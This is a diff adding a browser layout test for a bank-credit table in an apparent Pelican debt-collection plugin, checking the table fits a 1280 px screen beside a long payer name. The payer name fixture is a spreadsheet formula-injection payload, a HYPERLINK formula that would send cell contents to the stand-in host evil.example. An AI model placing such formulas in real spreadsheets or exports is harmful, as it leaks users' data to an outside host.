@@ -786,3 +786,36 @@ def test_the_total_outstanding_wraps_after_eur_never_inside_the_number(browser, 
     )
     context.close()
     assert lines == 1
+
+
+# -- the bank section on a laptop's screen ------------------------------------------------------------------
+
+
+def test_a_bank_credit_s_lines_to_assign_fit_a_1280_screen_beside_a_long_payer_name(browser, tmp_path):
+    # A payer name or a description without a space to wrap at (a formula, a long reference) held its column
+    # wide: at 1280 px the table ran 25 px past its box and cut the right edge of the lines to copy.
+    from datetime import date
+
+    from pelican.plugins.incasso.staff import STATIC
+    from tests.support.bankfiles import CREDITOR_IBAN, Booking, camt053, write_bank
+    from tests.support.ledgers import valid_creditor, valid_debtor, write_ledger
+
+    day = date(2026, 11, 23)
+    root = write_ledger(tmp_path / "ledger", creditor=valid_creditor(interest="none"), debtors=[valid_debtor()])
+    formula = '=HYPERLINK("http://evil.example?x="&A1,"KlikHierVoorDeBetalingVanVandaag")'
+    text = "BETALINGFACTUURF20260090ENF20260091KENMERKONBEKENDZIEBIJLAGE"
+    write_bank(root, {"a.xml": camt053(CREDITOR_IBAN, [Booking("248.05", day, ref="X1", name=formula, text=text)])})
+    books = read_books(root, day)
+    claims = [assess(books.ledger, d, day) for d in books.ledger.debtors]
+    book = staff_book(claims, books.ledger.creditor, day, "", lambda c: f"s/{c.debtor.id}/", bank=books.bank)
+    internal = tmp_path / "internal"
+    write_overview(staff_environment(str(REPO / "theme")), book, internal)
+    shutil.copytree(REPO / "theme" / STATIC, internal / "static")
+    context = browser.new_context(viewport={"width": 1280, "height": 900})
+    page = context.new_page()
+    page.goto((internal / "index.html").as_uri())
+    box = page.locator("#bank .table-scroll")
+    assert box.evaluate("b => b.scrollWidth <= b.clientWidth"), box.evaluate("b => [b.scrollWidth, b.clientWidth]")
+    lines, edge = page.locator("#bank-assign-1").bounding_box(), box.bounding_box()
+    assert lines["x"] + lines["width"] <= edge["x"] + edge["width"]
+    context.close()
